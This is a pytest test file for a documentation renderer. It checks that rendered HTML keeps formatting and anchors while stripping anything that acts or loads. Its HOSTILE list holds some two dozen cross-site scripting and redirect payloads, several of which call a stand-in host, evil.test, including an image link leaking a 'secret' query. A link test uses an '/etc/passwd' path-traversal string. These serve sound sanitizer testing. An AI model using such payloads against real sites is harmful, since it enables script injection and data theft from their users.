import re

import pytest

from knowledge.embed import MiniLmEmbedder
from knowledge.ingest.render import render
from knowledge.ingest.split import Splitter
from knowledge.loaders import load

URLS = {"a.md": "/docs/a", "guide/b.md": "/docs/guide/b", "guide/index.md": "/docs/guide"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.test/?q=secret)",
    "[x](javascript:alert(1))",
    "[x](//evil.test/a)",
    "[x](/\\evil.test)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<a href='/&#9;/evil.test'>x</a>",
    "<a href='/%09/evil.test' onclick='alert(1)' style='position:fixed'>x</a>",
    "<iframe src='https://evil.test'></iframe>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<form action='https://evil.test'><input name=a></form>",
    "<style>@import 'https://evil.test';</style>",
    "<p id='x\" onmouseover=alert(1)'>x</p>",
    "<base href='https://evil.test'>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<link rel=stylesheet href='https://evil.test/a.css'>",
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<table background='https://evil.test'><tr><td>x</td></tr></table>",
]


def rendered(embedder: MiniLmEmbedder, text: str, path: str = "guide/b.md") -> str:
    document = load(path, "", text.encode())
    return render(document, Splitter(embedder, "s").split(document, path), path, URLS)


@pytest.mark.parametrize("attack", HOSTILE)
@pytest.mark.parametrize("path", ["guide/b.md", "page.html"])
def test_nothing_that_acts_or_loads_survives(
    embedder: MiniLmEmbedder, attack: str, path: str
) -> None:
    html = rendered(embedder, f"<p>Text</p>\n\n{attack}\n", path)
    tags = " ".join(re.findall(r"<[^>]*>", html)).lower()
    assert not re.search(r"<(script|img|iframe|svg|math|form|style|base|meta|link|input)", tags)
    assert not re.search(r"\bon\w+\s*=|style\s*=|javascript:|data:|src\s*=|background", tags)
    assert not re.search(r"href=\"(?:/[/\\%\s]|[^\"#/h])", tags)


@pytest.mark.parametrize(
    ("link", "href"),
    [
        ("../a.md", "/docs/a"),
        ("../a.md#part-two", "/docs/a#part-two"),
        ("../a", "/docs/a"),
        ("./", "/docs/guide"),
        ("/a.md", "/docs/a"),
        ("#here", "#here"),
        ("https://example.com/x?y=1", "https://example.com/x?y=1"),
        ("mailto:help@example.com", "mailto:help@example.com"),
        ("missing.md", None),
        ("../../../../etc/passwd", None),
        ("ftp://example.com/x", None),
        ("http://[broken", None),
    ],
)
def test_links_lead_to_pages_or_nowhere(
    embedder: MiniLmEmbedder, link: str, href: str | None
) -> None:
    html = rendered(embedder, f"# T\n\n[words]({link})\n")
    found = re.findall(r'<a href="([^"]*)"', html)
    assert found == ([href] if href else [])
    assert "words" in html


def test_every_passage_that_chunks_cite_is_an_id_on_the_page(embedder: MiniLmEmbedder) -> None:
    steps = "\n".join(f"{n}. Step {n} goes on for some more words than usual" for n in range(60))
    rows = "\n".join(f"| code {n} | meaning number {n} |" for n in range(60))
    text = (
        f"Intro.\n\n## Steps\n\n{steps}\n\n## Codes\n\n| A | B |\n| - | - |\n{rows}\n\n"
        f"## Code\n\n```\n{rows}\n```\n\n> {'Quoted words go on. ' * 90}\n\n## Steps\n\nAgain.\n"
    )
    document = load("a.md", "", text.encode())
    pieces = Splitter(embedder, "s").split(document, "a.md")
    html = render(document, pieces, "a.md", URLS)
    ids = re.findall(r'\bid="([^"]+)"', html)
    assert len(ids) == len(set(ids))
    assert {piece.chunk.passage for piece in pieces} <= set(ids)
    assert len({piece.chunk.passage for piece in pieces}) > 8


def test_the_page_begins_with_its_title(embedder: MiniLmEmbedder) -> None:
    assert rendered(embedder, "---\ntitle: A & B\n---\ntext").startswith(
        '<h1 id="a--b">A &amp; B</h1>'
    )
    assert rendered(embedder, "# Own *title*\n\ntext").startswith('<h1 id="own-title">Own ')


def test_form_is_kept(embedder: MiniLmEmbedder) -> None:
    html = rendered(
        embedder,
        "# T\n\n2. **a**\n3. `b`\n\n| A |\n| - |\n| 1 |\n\n```py\nx < 1\n```\n\n~~old~~\n",
    )
    for piece in ('<ol start="2">', "<strong>a</strong>", "<th>A</th>", "x &lt; 1", "<s>old</s>"):
        assert piece in html
